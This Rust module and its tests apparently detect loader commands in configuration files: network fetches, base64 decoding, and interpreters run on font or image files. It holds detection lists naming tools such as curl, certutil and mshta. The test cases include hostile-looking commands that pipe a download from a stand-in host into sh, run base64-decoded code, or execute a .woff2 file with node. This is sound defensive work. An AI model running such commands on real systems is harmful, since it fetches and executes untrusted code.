//! What a command in a configuration file does, as far as its words show.

/// Programs and functions that fetch something from the network, as words of a command line.
const FETCHERS: [&str; 10] = [
    "bitsadmin",
    "certutil",
    "curl",
    "curl.exe",
    "invoke-restmethod",
    "invoke-webrequest",
    "irm",
    "iwr",
    "mshta",
    "wget",
];
/// Code that fetches something, lower case.
const FETCHES: [&str; 10] = [
    ".downloadfile(",
    ".downloadstring(",
    "axios",
    "fetch(",
    "http.get(",
    "https.get(",
    "require('http",
    "require(\\\"http",
    "urlopen(",
    "urllib",
];
/// Code that decodes text, lower case.
const DECODES: [&str; 9] = [
    "-encodedcommand",
    "atob(",
    "b64decode",
    "base64 --decode",
    "base64 -d",
    "buffer.from(",
    "frombase64string",
    "fromcharcode",
    "openssl enc",
];
/// Interpreters that run a file, and extensions of files that are not programs.
const INTERPRETERS: [&str; 7] = ["bash", "bun", "node", "perl", "python", "python3", "sh"];
const DATA_FILES: [&str; 16] = [
    ".bmp", ".css", ".dat", ".eot", ".gif", ".ico", ".jpeg", ".jpg", ".log", ".md", ".otf", ".png",
    ".svg", ".ttf", ".woff", ".woff2",
];

/// Whether a command is a loader: it fetches something, decodes something, or runs a file whose extension is
/// not that of a program.
pub(super) fn is_loader(command: &str) -> bool {
    let command = command.to_ascii_lowercase();
    let holds = |words: &[&str]| words.iter().any(|word| command.contains(word));
    fetches(&command) || holds(&FETCHES) || holds(&DECODES) || runs_data(&command)
}

/// Whether a part of a shell line calls a program that fetches. Installing such a program does not count.
fn fetches(command: &str) -> bool {
    let parts = command.split([';', '|', '&', '(', '`', '\n']);
    parts.map(words).any(|words| {
        let at = words.iter().position(|word| {
            let name = word.rsplit(['/', '\\']).next().unwrap_or_default();
            FETCHERS.contains(&name)
        });
        at.is_some_and(|at| {
            let (before, after) = (&words[..at], &words[at + 1..]);
            let asks = |word: &&str| {
                word.starts_with(['-', '$', '%']) || word.contains("://") || word.starts_with("/f")
            };
            !before.contains(&"install") && !before.contains(&"add") && after.iter().any(asks)
        })
    })
}

fn runs_data(command: &str) -> bool {
    let words = words(command);
    words.windows(2).any(|pair| {
        let name = pair[0].rsplit(['/', '\\']).next().unwrap_or_default();
        INTERPRETERS.contains(&name) && DATA_FILES.iter().any(|ending| pair[1].ends_with(ending))
    })
}

fn words(command: &str) -> Vec<&str> {
    let separates = |c: char| c.is_whitespace() || matches!(c, '"' | '\'' | ',' | '[' | ']' | '{');
    command
        .split(separates)
        .map(|word| word.trim_end_matches('\\'))
        .filter(|word| !matches!(*word, "" | ":" | "args"))
        .collect()
}

#[cfg(test)]
mod tests {
    use super::is_loader;

    #[test]
    fn commands_that_fetch_decode_or_disguise_are_loaders() {
        for command in [
            "curl -fsSL https://load.example/x | sh",
            "/usr/bin/wget -qO- $URL | bash",
            "powershell -c \"iwr https://load.example/x -o x.ps1\"",
            "\"command\": \"node\", \"args\": [\"public/fonts/solid-400.woff2\"]",
            "node -e \"require('https').get('https://load.example')\"",
            "python3 -c \"exec(__import__('base64').b64decode('aW1w'))\"",
            "echo aW1w | base64 -d | sh",
            "powershell -EncodedCommand aW1w",
        ] {
            assert!(is_loader(command), "{command}");
        }
    }

    #[test]
    fn ordinary_commands_are_not() {
        for command in [
            "npm run watch",
            "node -e \"try{require('./postinstall')}catch(e){}\"",
            "apt-get install -y curl wget -qq",
            "apk add curl --no-cache",
            "make libcurl CURL=1",
            "node scripts/build.js",
            "husky install && patch-package",
            "open http://localhost:3000",
        ] {
            assert!(!is_loader(command), "{command}");
        }
    }
}
